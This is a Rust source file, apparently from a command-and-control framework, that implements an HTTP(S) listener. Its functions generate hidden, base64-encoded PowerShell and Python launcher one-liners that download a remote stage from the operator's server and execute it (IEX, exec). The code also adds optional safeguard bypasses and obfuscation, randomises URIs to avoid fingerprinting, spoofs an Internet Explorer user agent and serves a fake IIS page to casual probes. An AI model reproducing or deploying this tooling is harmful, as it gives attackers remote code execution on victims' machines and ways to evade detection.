//! HTTP listener variant — client/server staging over plain HTTP(S).
//!
//! Launchers are one-liners that pull the next stage from a randomly
//! selected entry path of the listener's communication profile. Path
//! selection is per call and never cached: repeated launchers for the same
//! listener must not share a fingerprintable URI.

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use rand::seq::SliceRandom;

use crate::host::HostContext;
use crate::templates::{TemplateError, TemplateInstance};

use super::{profile_paths, profile_user_agent, Language, LauncherRequest, Listener};

const FALLBACK_USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko";

/// HTTP(S) communication endpoint.
pub struct HttpListener {
    instance: TemplateInstance,
}

impl HttpListener {
    pub fn new(instance: TemplateInstance) -> Self {
        HttpListener { instance }
    }

    fn option(&self, name: &str) -> String {
        self.instance.option_value(name).unwrap_or_default()
    }

    /// Pick the stage-0 entry URI for this call.
    fn launch_uri(&self) -> Result<String, TemplateError> {
        let host = self.option("Host");
        let profile = self.option("DefaultProfile");
        let paths = profile_paths(&profile);
        let stage0 = paths
            .choose(&mut rand::thread_rng())
            .ok_or_else(|| {
                TemplateError::Launcher(format!(
                    "no entry paths in DefaultProfile for {}",
                    self.instance.id()
                ))
            })?
            .clone();
        Ok(format!("{}/{}", host.trim_end_matches('/'), stage0))
    }

    fn resolve_user_agent(&self, requested: &str) -> Option<String> {
        match requested {
            "none" => None,
            "default" => Some(
                profile_user_agent(&self.option("DefaultProfile"))
                    .unwrap_or_else(|| FALLBACK_USER_AGENT.to_string()),
            ),
            other => Some(other.to_string()),
        }
    }

    fn powershell_stage(&self, uri: &str, request: &LauncherRequest) -> String {
        let mut stage = String::new();
        for bypass in &request.bypasses {
            stage.push_str(bypass.trim_end_matches(';'));
            stage.push(';');
        }
        stage.push_str("$wc=New-Object System.Net.WebClient;");
        if let Some(ua) = self.resolve_user_agent(&request.user_agent) {
            stage.push_str(&format!("$wc.Headers.Add('User-Agent','{}');", ua));
        }
        match request.proxy.as_str() {
            "none" => {}
            "default" => {
                stage.push_str("$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;");
                stage.push_str(
                    "$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;",
                );
            }
            proxy => {
                stage.push_str(&format!(
                    "$proxy=New-Object System.Net.WebProxy('{}');$wc.Proxy=$proxy;",
                    proxy
                ));
                match request.proxy_creds.as_str() {
                    "none" | "default" => {}
                    creds => {
                        let (user, pass) = creds.split_once(':').unwrap_or((creds, ""));
                        stage.push_str(&format!(
                            "$wc.Proxy.Credentials=New-Object System.Net.NetworkCredential('{}','{}');",
                            user, pass
                        ));
                    }
                }
            }
        }
        stage.push_str(&format!("IEX $wc.DownloadString('{}');", uri));
        stage
    }

    fn python_stage(&self, uri: &str, request: &LauncherRequest) -> String {
        let ua = self
            .resolve_user_agent(&request.user_agent)
            .unwrap_or_else(|| FALLBACK_USER_AGENT.to_string());
        format!(
            "import urllib.request as u;r=u.Request('{}',headers={{'User-Agent':'{}'}});exec(u.urlopen(r).read())",
            uri, ua
        )
    }
}

impl Listener for HttpListener {
    fn instance(&self) -> &TemplateInstance {
        &self.instance
    }

    fn instance_mut(&mut self) -> &mut TemplateInstance {
        &mut self.instance
    }

    fn generate_launcher(
        &self,
        host: &HostContext,
        request: &LauncherRequest,
    ) -> Result<String, TemplateError> {
        let language = request.language.ok_or_else(|| {
            TemplateError::Validation(format!(
                "{}: generate_launcher called with no language specified",
                self.instance.id()
            ))
        })?;

        let uri = self.launch_uri()?;

        match language {
            Language::PowerShell => {
                let mut stage = self.powershell_stage(&uri, request);
                if request.obfuscate {
                    stage = host
                        .obfuscator
                        .transform(&stage, &request.obfuscation_command);
                }
                if request.encode {
                    // PowerShell -enc takes base64 over UTF-16LE.
                    let utf16: Vec<u8> = stage
                        .encode_utf16()
                        .flat_map(|unit| unit.to_le_bytes())
                        .collect();
                    let prefix = {
                        let declared = self.option("Launcher");
                        if declared.trim().is_empty() {
                            "powershell -noP -sta -w 1 -enc ".to_string()
                        } else {
                            declared
                        }
                    };
                    Ok(format!("{}{}", prefix, BASE64.encode(utf16)))
                } else {
                    Ok(stage)
                }
            }
            Language::Python => {
                let mut stage = self.python_stage(&uri, request);
                if request.obfuscate {
                    stage = host
                        .obfuscator
                        .transform(&stage, &request.obfuscation_command);
                }
                if request.encode {
                    Ok(format!(
                        "python3 -c \"import base64;exec(base64.b64decode('{}'))\"",
                        BASE64.encode(stage.as_bytes())
                    ))
                } else {
                    Ok(stage)
                }
            }
        }
    }

    fn generate_stager(
        &self,
        _host: &HostContext,
        language: Language,
    ) -> Result<String, TemplateError> {
        match language {
            Language::PowerShell => {
                let key = self.option("StagingKey");
                let uri = self.launch_uri()?;
                Ok(format!(
                    "$K=[System.Text.Encoding]::ASCII.GetBytes('{}');$ser='{}';\
                     $wc=New-Object System.Net.WebClient;\
                     IEX $wc.DownloadString($ser);",
                    key, uri
                ))
            }
            other => Err(self.unsupported("generate_stager", other)),
        }
    }

    fn generate_comms(&self, language: Language) -> Result<String, TemplateError> {
        match language {
            Language::PowerShell => {
                let host = self.option("Host");
                Ok(format!(
                    "$Script:ControlServers = @(\"{}\");\n$Script:ServerIndex = 0;\n",
                    host
                ))
            }
            other => Err(self.unsupported("generate_comms", other)),
        }
    }

    fn default_response(&self) -> String {
        // Looks like a stock IIS landing page to casual probes.
        "<html><head><title>IIS7</title></head><body>\
         <div class=\"content\"><h1>Welcome</h1></div></body></html>"
            .to_string()
    }
}
